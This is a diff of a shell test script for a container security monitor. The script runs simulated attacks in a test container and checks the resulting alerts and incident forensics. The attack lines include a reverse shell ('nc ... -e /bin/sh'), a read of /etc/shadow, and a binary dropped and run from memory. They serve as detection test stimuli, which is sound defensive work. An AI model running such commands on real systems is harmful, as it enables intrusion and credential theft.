@@ -55,11 +55,12 @@ sleep 3
 check "the workload runs (the client's connects succeed)" test "$(client_ok)" -gt 3
 # (other containers may run on this host: only ours count)
 ours() { alerts "$1" ".container.name == \"$SRV\" or .container.name == \"$CLI\"" | wc -l; }
+[ "$(ours mon)" = 0 ] || alerts mon ".container.name == \"$SRV\" or .container.name == \"$CLI\"" >&2
 check "monitor: zero alerts before the attacks" test "$(ours mon)" = 0
 
 x() { docker exec "$SRV" sh -c "$1" >>"$T/attacks.out" 2>&1 || true; }
 revshell_listener 9001
-x "actions connect $SRV_IP 8080 'exec id'"                       # shell from the server
+x "actions connect $SRV_IP 8080 'exec sleep 1; id'"              # shell from the server
 x "cp /bin/actions /tmp/dropped && /tmp/dropped memfd t7010"      # drift
 x "cat /etc/shadow >/dev/null"                                    # credential read
 x "nc $GW 9001 -e /bin/sh" & RS=$!                                # reverse shell (nc -e: sh on the socket)
@@ -105,6 +106,8 @@ ID=$(jq -R -r "fromjson? | select(.rule.id == \"shell-from-server\") | .incident
 check "incidents: the record has the process tree with hashes, files, connections, recent events" \
         json_ok "$T/incident.json" ".rule_id == \"shell-from-server\" and (.forensics.process_tree | length >= 1) and
                 (.forensics.events | length >= 1) and (.forensics | has(\"open_files\") and has(\"connections\"))"
+json_ok "$T/incident.json" '[.forensics.process_tree[] | select(.cmdline[1] == "serve")] | length > 0' ||
+        jq -c .forensics.process_tree "$T/incident.json" >&2
 check "incidents: the process tree reaches the server, with its executable's sha256" \
         json_ok "$T/incident.json" "[.forensics.process_tree[] | select(.cmdline[1] == \"serve\") | .sha256 | test(\"^[0-9a-f]{64}$\")] | any"
 
@@ -150,4 +153,4 @@ last_mon=$(jq -R 'fromjson? | .incident' "$T/mon.alerts" | sort -n | tail -n 1)
 check "protect: incident ids continue after the restart (one store)" \
         test "$(jq -R 'fromjson? | .incident' "$T/pro.alerts" | sort -n | head -n 1)" -gt "$last_mon"
 note "attacks said: $(tr '\n' ';' <"$T/attacks.out")"
-note "protect agent: $(grep -h 'findings\|detection to kill' "$T/pro.err" | tr '\n' ' ')"
+note "protect agent: $(grep -h 'findings\|detection to\|event to detection' "$T/pro.err" | tr '\n' ' ')"
